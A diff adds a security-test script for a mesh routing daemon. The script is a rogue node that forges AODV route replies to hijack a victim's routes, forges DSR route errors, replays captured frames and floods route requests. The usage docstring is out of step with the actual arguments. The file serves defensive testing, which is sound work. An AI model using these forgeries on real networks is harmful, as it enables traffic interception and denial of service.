@@ -1,0 +1,130 @@
+"""A rogue node: raw manetkit frames (ethertype 0x88B5) forged with scapy, run inside a
+namespace that is in radio range of the victims. Holds no key.
+
+    python3 -m tests.security.rogue IFACE DST_MAC rrep --orig A --dest B --seq N [--via R]
+    python3 -m tests.security.rogue IFACE DST_MAC dsr-rerr --src A --dst B --unreachable C
+    python3 -m tests.security.rogue IFACE DST_MAC replay --hex FRAME_PACKET_HEX [--count N]
+    python3 -m tests.security.rogue IFACE DST_MAC rreq-flood --rate 1000 --seconds 3 --orig A
+
+Prints one JSON line: what it sent and for how long (the flood's achieved rate).
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import time
+from ipaddress import IPv4Address
+from pathlib import Path
+
+from scapy.config import conf
+from scapy.layers.l2 import Ether
+from scapy.packet import Raw
+
+from manetkit.daemon.wire import aodv, dsr
+
+ETHERTYPE = 0x88B5
+
+
+def forged_rrep(rogue: IPv4Address, victim: IPv4Address, dest: IPv4Address, seq: int) -> bytes:
+    """A RREP (RFC 3561 5.2) 'from' the rogue: ``dest`` one hop away, with a sequence
+    number far fresher than the real one, so the victim routes ``dest`` via the rogue."""
+    msg = aodv.RREP(hop_count=0, dest=dest, dest_seq=seq, orig=victim, lifetime_ms=600_000)
+    return aodv.control_packet(msg, rogue, victim, ttl=64)
+
+
+def forged_dsr_rerr(src: IPv4Address, dst: IPv4Address, unreachable: IPv4Address) -> bytes:
+    """A Route Error (RFC 4728 6.4) claiming the link ``src`` -> ``unreachable`` broke."""
+    err = dsr.RouteError.node_unreachable(src, dst, unreachable)
+    return dsr.encapsulate(dsr.IPFields(src, dst), [err], dsr.NO_NEXT_HEADER)
+
+
+def rreq(orig: IPv4Address, ident: int) -> bytes:
+    """A RREQ (RFC 3561 5.1) for an address nobody has: every receiver rebroadcasts."""
+    dest = IPv4Address(0x0A2AFF00 | (ident & 0xFF))
+    msg = aodv.RREQ(0, ident, dest, 0, orig, ident, unknown_seq=True)
+    return aodv.control_packet(msg, orig, aodv.BROADCAST, ttl=16)
+
+
+def capture(iface: str, from_mac: str, timeout: float) -> str:
+    """The IPv4 packet of the first AODV control frame ``from_mac`` sends (hex)."""
+    import socket
+
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE))
+    s.bind((iface, 0))
+    s.settimeout(timeout)
+    want = bytes.fromhex(from_mac.replace(":", ""))
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        frame = s.recv(2048)
+        if frame[6:12] == want and aodv.is_control(frame[14:]):
+            return frame[14:].hex()
+    raise SystemExit("no AODV frame captured")
+
+
+def main(argv: list[str] | None = None) -> None:
+    ap = argparse.ArgumentParser(prog="rogue")
+    ap.add_argument("iface")
+    ap.add_argument("dst_mac")
+    sub = ap.add_subparsers(dest="cmd", required=True)
+    p = sub.add_parser("rrep")
+    p.add_argument("--rogue", type=IPv4Address, required=True)
+    p.add_argument("--victim", type=IPv4Address, required=True)
+    p.add_argument("--dest", type=IPv4Address, required=True)
+    p.add_argument("--seq", type=int, default=0x7FFFFFF0)
+    p.add_argument("--count", type=int, default=3)
+    p = sub.add_parser("dsr-rerr")
+    p.add_argument("--src", type=IPv4Address, required=True)
+    p.add_argument("--dst", type=IPv4Address, required=True)
+    p.add_argument("--unreachable", type=IPv4Address, required=True)
+    p.add_argument("--count", type=int, default=3)
+    p = sub.add_parser("replay")
+    p.add_argument("--hex", required=True)
+    p.add_argument("--count", type=int, default=3)
+    p = sub.add_parser("capture", help="print the first AODV frame from DST_MAC as hex")
+    p.add_argument("--timeout", type=float, default=10)
+    p = sub.add_parser("rreq-flood")
+    p.add_argument("--orig", type=IPv4Address, required=True)
+    p.add_argument("--rate", type=float, default=1000)
+    p.add_argument("--seconds", type=float, default=3)
+    a = ap.parse_args(argv)
+
+    if a.cmd == "capture":
+        print(json.dumps({"cmd": "capture", "hex": capture(a.iface, a.dst_mac, a.timeout)}))
+        return
+    sock = conf.L2socket(iface=a.iface)
+    src_mac = Path(f"/sys/class/net/{a.iface}/address").read_text().strip()
+
+    def send(packet: bytes) -> None:
+        sock.send(Ether(dst=a.dst_mac, src=src_mac, type=ETHERTYPE) / Raw(packet))
+
+    start = time.monotonic()
+    sent = 0
+    if a.cmd == "rreq-flood":
+        period = 1 / a.rate
+        while (now := time.monotonic()) < start + a.seconds:
+            send(rreq(a.orig, sent & 0xFFFFFFFF))
+            sent += 1
+            lag = start + sent * period - time.monotonic()
+            if lag > 0:
+                time.sleep(lag)
+    else:
+        if a.cmd == "rrep":
+            packet = forged_rrep(a.rogue, a.victim, a.dest, a.seq)
+        elif a.cmd == "dsr-rerr":
+            packet = forged_dsr_rerr(a.src, a.dst, a.unreachable)
+        else:
+            packet = bytes.fromhex(a.hex)
+        for _ in range(a.count):
+            send(packet)
+            sent += 1
+            time.sleep(0.01)
+    now = time.monotonic()
+    sock.close()
+    elapsed = now - start
+    print(json.dumps({"cmd": a.cmd, "sent": sent, "seconds": round(elapsed, 3),
+                      "rate": round(sent / elapsed, 1) if elapsed else None}))  # fmt: skip
+
+
+if __name__ == "__main__":
+    main()
